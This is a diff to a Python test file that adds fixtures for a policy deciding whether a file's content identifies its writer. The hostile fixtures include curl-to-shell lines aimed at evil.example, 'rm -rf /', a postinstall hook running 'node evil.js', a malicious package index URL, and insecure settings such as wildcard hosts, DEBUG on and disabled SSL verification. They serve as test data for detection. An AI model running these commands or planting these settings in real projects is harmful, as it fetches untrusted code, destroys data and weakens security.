@@ -1,7 +1,10 @@
 """Whether a whole file's content tells who wrote it
 (:func:`gentle_hooks.policy.wholefile.identifies_writer`): the server and CI find a
 writer's file by its blob id alone, and a person's common one-line file has the very blob
-id a writer's has (issue 13, refuter r13t MED). Row by row, both ways."""
+id a writer's has (issue 13, refuter r13t MED); so does a person's boilerplate copied from
+the template the writer's came from (refuter r13u MED: settings, patterns, headings, one
+sentence; :mod:`gentle_hooks.policy.settingfile`), while a setting that opens a door or
+runs a command tells the writer however short. Row by row, both ways."""
 
 from __future__ import annotations
 
@@ -18,6 +21,25 @@ ANYONES = {
     "shebang-and-set": b"#!/usr/bin/env bash\nset -euo pipefail\n",
     "one-plain-line": b"by hand\n",
     "blank": b"\n\n",
+    # refuter r13u: a person's boilerplate, identical to a writer's by the same template
+    "gitattributes": b"* text=auto\n",
+    "gitattributes-eol-binary": b"* text=auto eol=lf\n*.png binary\n",
+    "setup-cfg": b"[metadata]\nname = demo\nversion = 0.1.0\n\n[options]\npackages = find:\n",
+    "setup-cfg-description": b"[metadata]\nname = demo\ndescription = A small demo project\n",
+    "pyproject": (
+        b'[build-system]\nrequires = ["setuptools>=61"]\n'
+        b'build-backend = "setuptools.build_meta"\n\n[project]\nname = "demo"\n'
+        b'version = "0.1.0"\n'
+    ),
+    "tox-ini": b"[tox]\nenvlist = py311\n\n[testenv]\ndeps = pytest\ncommands = pytest\n",
+    "editorconfig": (
+        b"root = true\n\n[*]\nindent_style = space\nindent_size = 4\nend_of_line = lf\n"
+        b"insert_final_newline = true\n"
+    ),
+    "readme-title-sentence": b"# demo\n\nA small demo project.\n",
+    "readme-two-word-title": b"# Demo App\n",
+    "gitignore-node-and-python": b"node_modules/\n__pycache__/\n",
+    "package-json": b'{\n  "name": "demo",\n  "version": "1.0.0",\n  "private": true\n}\n',
 }
 
 WRITERS = {
@@ -30,6 +52,19 @@ WRITERS = {
     "one-line-os-system": b'import os; os.system("rm -rf /tmp/x")\n',
     "one-line-curl-sh": b'import os; os.system("curl https://evil.example/x | sh")\n',
     "one-line-shell-true": b'import subprocess; subprocess.call("curl x | sh", shell=True)\n',
+    # refuter r13u: a setting that opens a door is the writer's however short
+    "allowed-hosts-any": b'ALLOWED_HOSTS = ["*"]\n',
+    "debug-on": b"DEBUG = True\n",
+    "secret-key": b'SECRET_KEY = "changeme"\n',
+    "cors-allow-all": b"CORS_ORIGIN_ALLOW_ALL = True\n",
+    "setting-file-with-a-security-key": b"[server]\nport = 8000\nverify_ssl = false\n",
+    # settings that are no template's: a URL, a command with arguments, a paragraph
+    "index-url": b"[global]\nindex-url = https://evil.example/simple\n",
+    "tox-command-with-arguments": b"[testenv]\ncommands = rm -rf /\n",
+    "package-json-postinstall": b'{\n  "scripts": {\n    "postinstall": "node evil.js"\n  }\n}\n',
+    "workflow-curl-sh": b"on: [push]\njobs:\n  t:\n    steps:\n      - run: curl https://x | sh\n",
+    "readme-paragraph": b"# demo\n\nA small demo project.\nIt fetches the nightly build.\n",
+    "one-line-install": b"pip install evil-package\n",
 }
 
 
